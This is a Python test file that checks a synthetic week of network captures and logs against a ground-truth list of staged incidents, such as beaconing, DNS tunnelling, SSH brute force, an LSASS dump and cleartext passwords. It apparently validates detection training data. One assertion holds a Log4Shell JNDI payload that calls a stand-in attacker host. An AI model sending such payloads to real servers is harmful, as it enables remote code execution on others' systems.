"""The story: every scene of truth.json can be seen in the files it names, under its unit."""

import csv
import json
import re
from collections import Counter
from datetime import datetime
from ipaddress import ip_address, ip_network
from itertools import pairwise
from statistics import mean

import dns.message
import pytest

from taishi.sample.week import SampleWeek

STORY = {
    "beacon": ("compromised", "high"),
    "dns_tunnel": ("compromised", "high"),
    "port_scan": ("attempted", "medium"),
    "ssh_guessing": ("attempted", "medium"),
    "ssh_broken_in": ("compromised", "high"),
    "web_exploits": ("attempted", "medium"),
    "sql_injection": ("attempted", "high"),
    "clear_text_ftp": ("risk", "medium"),
    "clear_text_basic": ("risk", "medium"),
    "lsass_dump": ("compromised", "high"),
    "smb1_spoken": ("risk", "medium"),
    "inside_scan": ("attempted", "medium"),
    "night_export": ("risk", "medium"),
    "share_in_clear": ("risk", "medium"),
    "known_control": ("compromised", "high"),
    "two_networks": ("risk", "high"),
    "unregistered_recorder": ("risk", "medium"),
}


@pytest.fixture(scope="session")
def register(week: SampleWeek) -> list[dict[str, str]]:
    with week.register.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def log_text(week: SampleWeek, name: str) -> str:
    return next(path for path in week.logs if path.name == name).read_text("utf-8")


def test_truth_is_complete(truth: list[dict], week: SampleWeek) -> None:
    assert {scene["scene"]: (scene["class"], scene["level"]) for scene in truth} == STORY
    files = {week.pcap.name, *(path.name for path in week.logs)}
    for scene in truth:
        assert scene["what"]["zh"]
        assert scene["what"]["en"]
        assert set(scene["seen_in"]) <= files
        assert datetime.fromisoformat(scene["first_seen"]) < datetime.fromisoformat(scene["last_seen"])
        if scene["class"] == "attempted":
            assert scene["attackers"]


def test_every_subject_is_in_the_register_under_its_unit(
    truth: list[dict], register: list[dict[str, str]]
) -> None:
    names = {row["主机名"]: row["单位名称"] for row in register if row["主机名"]}
    networks = {ip_network(row["IP地址"]): row["单位名称"] for row in register}
    for scene in truth:
        subject = scene["subject"]
        if scene["subject_kind"] != "ip":
            assert names[subject] == scene["unit"]
            continue
        of = [network for network in networks if ip_address(subject) in network]
        owner = networks[max(of, key=lambda network: network.prefixlen)] if of else None
        assert owner == scene["unit"]


def test_the_register_holds_six_units_and_the_bureau(register: list[dict[str, str]]) -> None:
    assert len({row["单位名称"] for row in register}) == 7
    assert {row["层级"] for row in register} == {"线路接入", "云平台", "业务系统"}
    assert all(re.fullmatch(r"0555-555\d{4}", row["联系电话"]) for row in register)


def test_the_beacon_keeps_its_rhythm_for_three_days(packets: list) -> None:
    calls = [packet.at for packet in packets if packet.target == "198.51.100.7" and packet.flags == 0x02]
    gaps = [later - earlier for earlier, later in pairwise(calls)]
    assert calls[-1] - calls[0] > 2.9 * 86400
    assert all(113.9 < gap < 126.1 for gap in gaps)
    assert mean(gaps) == pytest.approx(120, abs=0.5)


def test_the_tunnel_asks_for_thousands_of_long_names(packets: list) -> None:
    asked = [
        dns.message.from_wire(packet.payload).question[0]
        for packet in packets
        if packet.source == "10.34.4.31" and packet.target_port == 53
    ]
    tunnel = [str(question.name) for question in asked if str(question.name).endswith(".s1.example.org.")]
    assert len(tunnel) == len(set(tunnel)) == 2600
    assert min(map(len, tunnel)) > 70


def test_the_scan_tries_hundreds_of_ports(packets: list) -> None:
    tried = [p.target_port for p in packets if p.source == "203.0.113.9" and p.flags == 0x02]
    answers = Counter(p.flags for p in packets if p.target == "203.0.113.9")
    assert len(set(tried)) == len(tried) == 420
    assert answers[0x12] == 2
    assert 200 < answers[0x14] < 418


def test_the_guest_of_the_gis_server_asks_the_shared_services_in_vain(
    week: SampleWeek, packets: list, truth: list[dict]
) -> None:
    scan = [scene for scene in truth if scene["scene"] == "inside_scan"]
    begun, ended = (datetime.fromisoformat(scan[0][name]).timestamp() for name in ("first_seen", "last_seen"))
    asked = [p for p in packets if p.source == "10.34.5.20" and begun <= p.at <= ended and p.flags == 0x02]
    targets = {scene["subject"] for scene in scan}
    assert len(targets) == 8
    assert {(p.target, p.target_port) for p in asked} == {
        (one, port) for one in targets for port in (445, 3389)
    }
    assert not [
        p for p in packets if p.source in targets and p.source_port in (445, 3389) and p.flags != 0x14
    ]
    guest = [line for line in log_text(week, "sshd-zrzy-gis01.log").splitlines() if "gisadmin" in line]
    login, logout = (
        datetime.fromisoformat(next(line for line in guest if f"session {word} for" in line).split()[0])
        for word in ("opened", "closed")
    )
    assert login.timestamp() < begun < ended < logout.timestamp()


def test_an_old_computer_reads_plans_in_smb_1(packets: list) -> None:
    said = [p for p in packets if "10.34.2.30" in (p.source, p.target) and p.payload[4:8] == b"\xffSMB"]
    negotiated = [p for p in said if p.payload[8] == 0x72]
    reads = [p for p in said if p.payload[8] == 0x2E and p.source == "10.34.2.30"]
    assert len(negotiated) == 2 * len({p.target_port for p in said if p.source == "10.34.2.30"}) == 6
    assert all(b"\x02NT LM 0.12\0" in p.payload for p in negotiated[::2])
    assert {p.payload[9:13] for p in said} == {bytes(4)}, "the server refuses nothing"
    assert len(reads) == 9


def test_one_ssh_guesser_fails_and_the_other_gets_in(week: SampleWeek) -> None:
    failed, broken = (log_text(week, name) for name in ("sshd-wjw-app01.log", "sshd-zrzy-gis01.log"))
    assert failed.count("Failed password") > 600
    assert not re.search(r"Accepted \w+ for \w+ from 203\.0\.113\.77", failed)
    success = broken.index("Accepted password for gisadmin from 198.51.100.99")
    assert broken[:success].count("from 198.51.100.99 port") > 300
    assert "useradd" in broken[success:]
    assert "COMMAND=/usr/sbin/useradd" not in broken[:success]


def test_web_attacks_are_refused(week: SampleWeek, packets: list) -> None:
    lines = log_text(week, "access-portal.log").splitlines()
    attacks = [line for line in lines if line.split()[1] in ("203.0.113.66", "198.51.100.61")]
    assert len(attacks) == 40
    assert all(re.search(r'" (403|404) \d+ "', line) for line in attacks)
    assert sum(b"${jndi:ldap://203.0.113.66:1389/a}" in packet.payload for packet in packets) == 5


def test_windows_events_count_up_and_end_in_the_dump(week: SampleWeek) -> None:
    lines = log_text(week, "windows-WIN-HFZ-01.jsonl").splitlines()
    systems = [json.loads(line)["Event"]["System"] for line in lines]
    times = [system["TimeCreated"]["#attributes"]["SystemTime"] for system in systems]
    assert [system["EventRecordID"] for system in systems] == list(range(1, len(lines) + 1))
    assert times == sorted(times)
    accesses = Counter(
        event["EventData"]["GrantedAccess"]
        for event in (json.loads(line)["Event"] for line in lines)
        if event["System"]["EventID"] == 10
    )
    assert accesses["0x1fffff"] == accesses["0x1010"] == 1
    assert accesses["0x1000"] > 10


def test_passwords_cross_the_wire_in_the_clear_only_in_the_story(packets: list, truth: list[dict]) -> None:
    told = {peer for scene in truth if scene["scene"].startswith("clear_text") for peer in scene["peers"]}
    bare = re.compile(rb"^PASS |\r\nAuthorization: Basic ")
    assert {packet.source for packet in packets if bare.search(packet.payload)} == told
